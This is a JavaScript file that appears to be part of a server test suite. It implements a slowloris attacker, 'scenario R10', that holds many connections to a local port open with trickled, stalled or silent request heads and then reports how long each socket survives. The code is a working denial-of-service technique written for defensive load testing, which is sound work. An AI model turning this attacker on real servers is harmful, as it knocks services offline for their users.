// The slowloris attacker of scenario R10, run as its own process:
//   node slowloris.mjs PORT SEED SOCKETS DURATION_MS BOUND_MS
// holds SOCKETS connections to 127.0.0.1:PORT open with unfinished request
// heads for DURATION_MS (a third each: trickled one byte every 300–1000 ms,
// stalled before the final CRLF, silent), reopening each one the server
// closes, then prints {closed, overdue} as JSON: every socket's lifetime
// (ms from connect to the server's close) and the sockets still open past
// BOUND_MS when the attack ended.
import { connect } from 'node:net';
import { random, sleep } from './lib.mjs';

/** `sockets` slow sockets, each reopened when the server closes it, until `stopAt`; their lifetimes. */
export async function slowloris(port, next, sockets, stopAt, boundMs) {
  const closed = []; // { kind, ms, answered }
  const open = new Set();
  const head = (i) => `GET /r10/${i % 200} HTTP/1.1\r\nHost: t\r\nUser-Agent: slowloris\r\nX-Pad: ${'p'.repeat(40)}\r\n\r\n`;
  const kinds = ['trickle', 'stall', 'silent'];
  const openOne = (slot) => {
    if (Date.now() >= stopAt) return;
    const kind = kinds[slot % 3];
    const socket = connect(port, '127.0.0.1');
    const s = { kind, socket, connectedAt: 0, text: '', timer: undefined };
    open.add(s);
    socket.on('data', (d) => { s.text += d.toString('latin1'); });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(s.timer);
      open.delete(s);
      if (s.connectedAt !== 0 && !s.abandoned) closed.push({ kind, ms: Date.now() - s.connectedAt, answered: s.text.split('\r\n')[0] });
      if (!s.abandoned) openOne(slot);
    });
    socket.on('connect', () => {
      s.connectedAt = Date.now();
      const text = head(slot);
      if (kind === 'stall') socket.write(text.slice(0, -2));
      if (kind !== 'trickle') return;
      let at = 0;
      const step = () => {
        if (socket.destroyed || at >= text.length - 2) return;
        socket.write(text[at++]);
        s.timer = setTimeout(step, 300 + Math.floor(next() * 700));
      };
      step();
    });
  };
  // Opened over the first second, as an attacker ramps up (300 connects in one burst would measure the burst).
  for (let slot = 0; slot < sockets; slot++) {
    openOne(slot);
    if (slot % 10 === 9) await sleep(30);
  }
  while (Date.now() < stopAt) await sleep(100);
  // Sockets still open: past the bound they count as not closed; younger ones are simply abandoned.
  const end = Date.now();
  const overdue = [];
  for (const s of open) {
    s.abandoned = true;
    if (s.connectedAt !== 0 && end - s.connectedAt > boundMs) overdue.push({ kind: s.kind, ms: end - s.connectedAt, answered: 'still open' });
    s.socket.destroy();
  }
  return { closed, overdue };
}

const [port, seed, sockets, durationMs, boundMs] = process.argv.slice(2).map(Number);
const result = await slowloris(port, random(seed), sockets, Date.now() + durationMs, boundMs);
process.stdout.write(JSON.stringify(result));
